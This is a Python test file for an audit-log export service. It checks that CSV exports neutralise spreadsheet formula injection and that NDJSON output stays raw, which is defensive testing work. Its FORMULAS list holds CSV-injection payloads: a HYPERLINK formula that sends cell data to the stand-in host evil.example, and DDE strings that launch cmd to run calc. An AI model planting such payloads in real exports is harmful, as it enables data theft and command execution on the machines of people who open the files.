"""The CSV export cannot run a formula in an auditor's spreadsheet (OWASP CSV injection); NDJSON stays raw."""

from __future__ import annotations

import csv
import io
import json

import msgspec
import pytest

from shared.contract import queries as q
from tests.integration.histories import OrgHistory, publish
from tests.integration.in_process import consuming
from tests.integration.test_audit_projection import T0, Audit

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # OWASP: a spreadsheet evaluates a cell starting so
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    'plain, with "quotes" and, commas\nand a line',
]


@pytest.fixture
async def audit(clean_nats, database_url):
    async with consuming(clean_nats, database_url, Audit) as service:
        yield service


async def exported(audit: Audit, org_id: str, fmt: str) -> str:
    return (await audit.read_model.export(msgspec.convert({"org_id": org_id, "format": fmt}, q.AuditExport)))["data"]


async def a_history_carrying_formulas(audit: Audit) -> OrgHistory:
    history = OrgHistory("-acme", T0)  # an identifier may start with "-"
    for n, formula in enumerate(FORMULAS):
        event = history.invited(T0)
        event["command_id"], event["correlation_id"] = formula, FORMULAS[-1 - n]
    for event in history.events:
        await publish(audit.js, event)
    await audit.caught_up(history.org_id, len(history.events))
    return history


async def test_no_csv_cell_starts_with_a_formula_trigger_and_each_reads_back_to_its_value(audit):
    await a_history_carrying_formulas(audit)
    entries = [json.loads(line) for line in (await exported(audit, "-acme", "ndjson")).splitlines()]
    rows = list(csv.reader(io.StringIO(await exported(audit, "-acme", "csv"))))
    header, cells = rows[0], rows[1:]
    assert [row[header.index("command_id")] for row in cells[1:]] == [
        "'" + f if f.startswith((*FORMULA_TRIGGERS, "'")) else f for f in FORMULAS
    ]
    for row, entry in zip(cells, entries, strict=True):
        for column, cell in zip(header, row, strict=True):
            assert not cell.startswith(FORMULA_TRIGGERS), (column, cell)
            original, value = cell.removeprefix("'"), entry[column]
            if column in ("actor", "targets", "metadata"):
                assert json.loads(original) == value
            else:
                assert original == ("" if value is None else str(value)), column


async def test_every_csv_field_is_quoted_and_embedded_quotes_doubled(audit):
    await a_history_carrying_formulas(audit)
    text = await exported(audit, "-acme", "csv")
    rewritten = io.StringIO()
    csv.writer(rewritten, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(csv.reader(io.StringIO(text)))
    assert rewritten.getvalue() == text


async def test_ndjson_stays_raw(audit):
    await a_history_carrying_formulas(audit)
    entries = [json.loads(line) for line in (await exported(audit, "-acme", "ndjson")).splitlines()]
    assert entries[0]["org_id"] == "-acme"
    assert [e["command_id"] for e in entries[1:]] == FORMULAS
